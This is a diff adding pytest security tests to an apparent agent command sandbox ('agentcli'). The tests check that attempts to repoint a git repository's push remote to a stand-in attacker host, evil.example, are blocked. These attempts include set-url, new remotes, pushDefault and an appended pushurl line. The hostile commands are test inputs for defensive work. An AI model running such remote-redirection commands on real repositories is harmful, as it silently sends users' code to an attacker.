@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import os
 import subprocess
+from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
 
 from agentcli.process.git_config import run_by_git
-from tests.support.repositories import make_repository
+from tests.support.repositories import git, make_repository
 from tests.support.sandboxes import BOTH, told
 
 pytestmark = [pytest.mark.spec("SEC-17"), pytest.mark.sampled]
@@ -391,3 +392,39 @@ def test_no_crowd_of_directories_hides_one_that_a_hook_runs(
     assert "was renamed" in told(work, made, kind=kind)[0]
     sh("git commit -qm x --allow-empty", work)
     assert not (work / "pwned").exists()
+
+
+@pytest.mark.spec("SEC-17")
+@pytest.mark.parametrize("kind", BOTH)
+@pytest.mark.parametrize(
+    "commands",
+    [
+        ("git remote set-url origin https://evil.example/x",),
+        ("git remote set-url --push origin https://evil.example/x",),
+        ("git remote remove origin", "git remote add origin https://evil.example/x"),
+        ("git remote add evil https://evil.example/x", "git config branch.main.remote evil"),
+        ("git remote add evil https://evil.example/x", "git config remote.pushDefault evil"),
+        ("printf '[remote.origin]\\n\\tpushurl = https://evil.example/x\\n' >> .git/config",),
+    ],
+)
+def test_what_the_user_pushes_goes_where_it_went(
+    tmp_path: Path, kind: str, commands: Sequence[str]
+) -> None:
+    work = make_repository(tmp_path / "work")
+    git(work, "branch", "-M", "main")
+    git(work, "remote", "add", "origin", "https://good.example/x")
+    git(work, "config", "branch.main.remote", "origin")
+    told(work, *commands, kind=kind)
+    assert git(work, "config", "branch.main.remote") == "origin\n"
+    assert "pushdefault" not in git(work, "config", "--list")
+    assert git(work, "remote", "get-url", "--push", "--all", "origin") == "https://good.example/x\n"
+
+
+@pytest.mark.spec("SEC-17")
+def test_a_remote_and_a_branch_that_are_new_may_be_said(tmp_path: Path) -> None:
+    work = make_repository(tmp_path / "work")
+    git(work, "remote", "add", "origin", "https://good.example/x")
+    command = "git remote add o ../x; git config branch.new.remote o"
+    (said,) = told(work, command, kind="landlock")
+    assert "set-aside" not in said
+    assert git(work, "remote", "get-url", "o") == "../x\n"
